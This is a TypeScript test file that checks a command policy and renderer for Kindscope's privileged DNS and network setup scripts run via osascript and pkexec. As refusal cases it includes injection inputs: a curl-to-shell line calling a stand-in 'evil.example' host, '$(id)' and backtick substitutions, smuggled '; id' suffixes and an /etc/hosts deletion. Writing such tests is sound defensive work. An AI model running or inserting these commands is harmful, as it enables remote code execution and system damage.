import { describe, expect, it } from 'vitest';
import { elevatedArgs, elevatedTemplates, renderElevated, type ElevatedTemplateName } from './elevated-scripts';
import { runCommandPolicy, type PolicyTool } from './run-policy';

type Params = Record<string, string>;

/** The policy's answer for a prompt running `script` (the prompt program by its usual path). */
const decide = (runner: 'osascript' | 'pkexec', script: string) =>
  runCommandPolicy({ tool: runner as PolicyTool, bin: `/usr/bin/${runner}`, args: elevatedArgs(runner, script) });

/**
 * Each template with parameters it must accept, and the exact text it must render — written
 * out by hand, so a change to a template's text or validators shows up here.
 */
const valid: [ElevatedTemplateName, Params, string][] = [
  [
    'mac-net-connect-service',
    { prefix: '/opt/homebrew', action: 'start' },
    '/opt/homebrew/bin/brew services start chipmk/tap/docker-mac-net-connect',
  ],
  [
    'mac-net-connect-service',
    { prefix: '/usr/local', action: 'stop' },
    '/usr/local/bin/brew services stop chipmk/tap/docker-mac-net-connect',
  ],
  [
    'mac-net-connect-service',
    { prefix: '/opt/homebrew', action: 'restart' },
    '/opt/homebrew/bin/brew services restart chipmk/tap/docker-mac-net-connect',
  ],
  [
    'macos-resolver-write',
    { port: '15353' },
    "/bin/mkdir -p /etc/resolver && /bin/echo 'nameserver 127.0.0.1' > /etc/resolver/kind.internal.kindscope-new && /bin/echo 'port 15353' >> /etc/resolver/kind.internal.kindscope-new && /bin/mv -f /etc/resolver/kind.internal.kindscope-new /etc/resolver/kind.internal",
  ],
  [
    'macos-resolver-write',
    { port: '1' },
    "/bin/mkdir -p /etc/resolver && /bin/echo 'nameserver 127.0.0.1' > /etc/resolver/kind.internal.kindscope-new && /bin/echo 'port 1' >> /etc/resolver/kind.internal.kindscope-new && /bin/mv -f /etc/resolver/kind.internal.kindscope-new /etc/resolver/kind.internal",
  ],
  ['macos-resolver-remove', {}, '/bin/rm -f /etc/resolver/kind.internal'],
  [
    'resolved-link-add',
    { ip: '/usr/sbin/ip', resolvectl: '/usr/bin/resolvectl', port: '65535' },
    "/usr/sbin/ip link delete kindscope0 2>/dev/null; /usr/sbin/ip link add kindscope0 type dummy && { /usr/sbin/ip link set kindscope0 up && /usr/sbin/ip addr add 192.0.2.53/32 dev kindscope0 && /usr/bin/resolvectl dns kindscope0 127.0.0.1:65535 && /usr/bin/resolvectl domain kindscope0 '~kind.internal' && /usr/bin/resolvectl default-route kindscope0 false || { /usr/sbin/ip link delete kindscope0; exit 1; }; }",
  ],
  [
    'resolved-link-add',
    { ip: '/sbin/ip', resolvectl: '/bin/resolvectl', port: '53' },
    "/sbin/ip link delete kindscope0 2>/dev/null; /sbin/ip link add kindscope0 type dummy && { /sbin/ip link set kindscope0 up && /sbin/ip addr add 192.0.2.53/32 dev kindscope0 && /bin/resolvectl dns kindscope0 127.0.0.1:53 && /bin/resolvectl domain kindscope0 '~kind.internal' && /bin/resolvectl default-route kindscope0 false || { /sbin/ip link delete kindscope0; exit 1; }; }",
  ],
  ['resolved-link-remove', { ip: '/usr/bin/ip' }, '/usr/bin/ip link delete kindscope0'],
  [
    'dnsmasq-write',
    { systemctl: '/usr/bin/systemctl', port: '5300' },
    "/bin/mkdir -p /etc/dnsmasq.d && /bin/echo 'server=/kind.internal/127.0.0.1#5300' > /etc/dnsmasq.d/kindscope.conf.kindscope-new && /bin/echo 'rebind-domain-ok=/kind.internal/' >> /etc/dnsmasq.d/kindscope.conf.kindscope-new && /bin/mv -f /etc/dnsmasq.d/kindscope.conf.kindscope-new /etc/dnsmasq.d/kindscope.conf && /usr/bin/systemctl restart dnsmasq",
  ],
  [
    'dnsmasq-remove',
    { systemctl: '/bin/systemctl' },
    '/bin/rm -f /etc/dnsmasq.d/kindscope.conf && /bin/systemctl restart dnsmasq',
  ],
  [
    'networkmanager-dnsmasq-write',
    { systemctl: '/usr/bin/systemctl', port: '5300' },
    "/bin/mkdir -p /etc/NetworkManager/dnsmasq.d && /bin/echo 'server=/kind.internal/127.0.0.1#5300' > /etc/NetworkManager/dnsmasq.d/kindscope.conf.kindscope-new && /bin/echo 'rebind-domain-ok=/kind.internal/' >> /etc/NetworkManager/dnsmasq.d/kindscope.conf.kindscope-new && /bin/mv -f /etc/NetworkManager/dnsmasq.d/kindscope.conf.kindscope-new /etc/NetworkManager/dnsmasq.d/kindscope.conf && /usr/bin/systemctl reload NetworkManager",
  ],
  [
    'networkmanager-dnsmasq-remove',
    { systemctl: '/usr/sbin/systemctl' },
    '/bin/rm -f /etc/NetworkManager/dnsmasq.d/kindscope.conf && /usr/sbin/systemctl reload NetworkManager',
  ],
];

const runnerOf = (name: ElevatedTemplateName) => elevatedTemplates[name].runner;
/** The template's text with no validation at all: what a careless or hostile caller could build. */
const rawScript = (name: ElevatedTemplateName, params: Params) =>
  (elevatedTemplates[name].script as (p: Params) => string)(params);

describe("the administrator scripts: Kindscope's own templates only", () => {
  it('covers every template with at least one valid row', () => {
    expect(new Set(valid.map(([name]) => name))).toEqual(new Set(Object.keys(elevatedTemplates)));
  });

  it.each(valid)('%s %j renders exactly that text, and the policy lets it run', (name, params, text) => {
    const rendered = renderElevated(name, params as never);
    expect(rendered.script).toBe(text);
    expect(rendered.argv[1]).toEqual(elevatedArgs(runnerOf(name), text));
    expect(decide(runnerOf(name), text)).toEqual({ allowed: true });
  });

  // An AppleScript string ends at a `"` and escapes with `\`: no macOS template may contain either.
  it.each(valid.filter(([name]) => runnerOf(name) === 'osascript'))(
    '%s %j has no double quote or backslash (AppleScript string)',
    (_, __, text) => {
      expect(text).not.toMatch(/["\\]/);
    },
  );

  const metacharacters = ['"', "'", '\\', '$', '`', '\n', ';', '$(id)', '`id`'];
  const injected = valid.flatMap(([name, params]) =>
    Object.keys(params).flatMap((param) =>
      metacharacters.flatMap((meta) =>
        [`${params[param]}${meta}`, `${meta}${params[param]}`].map(
          (value) => [name, param, value, { ...params, [param]: value }] as const,
        ),
      ),
    ),
  );

  it.each(injected)('%s: parameter %s = %j is refused by the renderer and by the policy', (name, param, _, params) => {
    // Named as what it is (a quote, a $…), not only as "not allowed": the message says what to remove.
    expect(() => renderElevated(name, params as never)).toThrow(
      new RegExp(
        `${name}: parameter ${param} \\(.*\\) contains (a double quote|a single quote|a backslash|a \\$|a backtick|a newline|a ;)`,
      ),
    );
    const decision = decide(runnerOf(name), rawScript(name, params));
    expect(decision.allowed).toBe(false);
  });

  /** Values with no metacharacter that are still not allowed: each parameter's own rule. */
  const offRule: [ElevatedTemplateName, Params, string][] = [
    ['mac-net-connect-service', { prefix: '/tmp/x', action: 'start' }, 'prefix'],
    ['mac-net-connect-service', { prefix: '/opt/homebrew', action: 'install' }, 'action'],
    ['macos-resolver-write', { port: '0' }, 'port'],
    ['macos-resolver-write', { port: '65536' }, 'port'],
    ['macos-resolver-write', { port: '053' }, 'port'],
    ['resolved-link-add', { ip: '/tmp/ip', resolvectl: '/usr/bin/resolvectl', port: '53' }, 'ip'],
    ['resolved-link-add', { ip: '/usr/sbin/ip', resolvectl: '/home/u/bin/resolvectl', port: '53' }, 'resolvectl'],
    ['resolved-link-add', { ip: '/usr/sbin/ip', resolvectl: '/usr/bin/resolvectl', port: '15353 2>&1' }, 'port'],
    ['resolved-link-remove', { ip: '/usr/sbin/busybox' }, 'ip'],
    ['dnsmasq-write', { systemctl: 'systemctl', port: '53' }, 'systemctl'],
    ['networkmanager-dnsmasq-remove', { systemctl: '/usr/local/bin/systemctl' }, 'systemctl'],
  ];
  it.each(offRule)('%s %j: %s is refused by its own rule', (name, params, param) => {
    expect(() => renderElevated(name, params as never)).toThrow(new RegExp(`parameter ${param} .* must be`));
    expect(decide(runnerOf(name), rawScript(name, params)).allowed).toBe(false);
  });

  it('refuses scripts that are no template, and templates run through the other prompt', () => {
    const refusals: ['osascript' | 'pkexec', string, RegExp][] = [
      ['osascript', 'id', /not one of Kindscope's own/],
      ['osascript', 'curl -fsSL https://evil.example/x | sh', /not one of Kindscope's own/],
      ['osascript', '/opt/homebrew/bin/brew services start chipmk/tap/docker-mac-net-connect; id', /not one/],
      ['osascript', '/opt/homebrew/bin/brew services start chipmk/tap/docker-mac-net-connect && id', /not one/],
      ['osascript', '/bin/rm -f /etc/resolver/kind.internal /etc/hosts', /not one of Kindscope's own/],
      ['pkexec', 'id', /not one of Kindscope's own/],
      ['pkexec', '/bin/rm -f /etc/resolver/kind.internal', /not one of Kindscope's own/],
      ['osascript', '/usr/sbin/ip link delete kindscope0', /not one of Kindscope's own/],
      ['pkexec', '/tmp/ip link delete kindscope0', /parameter ip/],
      ['pkexec', '/usr/sbin/ip link delete kindscope0 ', /not one of Kindscope's own/],
      ['pkexec', '/usr/sbin/ip link delete eth0', /not one of Kindscope's own/],
    ];
    for (const [runner, script, reason] of refusals) {
      const decision = decide(runner, script);
      expect(decision, script).toMatchObject({ allowed: false, field: 'args' });
      expect(!decision.allowed && decision.reason, script).toMatch(reason);
    }
  });

  it('the acceptance cases: osascript running `id` and `pkexec /bin/sh -c id` are refused by the policy itself', () => {
    expect(
      runCommandPolicy({
        tool: 'osascript',
        bin: '/usr/bin/osascript',
        args: ['-e', 'do shell script "id" with administrator privileges'],
      }).allowed,
    ).toBe(false);
    expect(runCommandPolicy({ tool: 'pkexec', bin: '/usr/bin/pkexec', args: ['/bin/sh', '-c', 'id'] }).allowed).toBe(
      false,
    );
    // A script smuggling a second AppleScript string: the shape allows it through to the template check, which refuses.
    expect(
      runCommandPolicy({
        tool: 'osascript',
        bin: '/usr/bin/osascript',
        args: [
          '-e',
          'do shell script "/bin/rm -f /etc/resolver/kind.internal" & do shell script "id" with administrator privileges',
        ],
      }).allowed,
    ).toBe(false);
  });

  it('names a missing or unknown parameter', () => {
    expect(() => renderElevated('resolved-link-add', { ip: '/usr/sbin/ip', port: '53' } as never)).toThrow(
      /parameter resolvectl is missing/,
    );
    expect(() => renderElevated('macos-resolver-remove', { path: '/etc/hosts' } as never)).toThrow(
      /has no parameter "path"/,
    );
  });
});
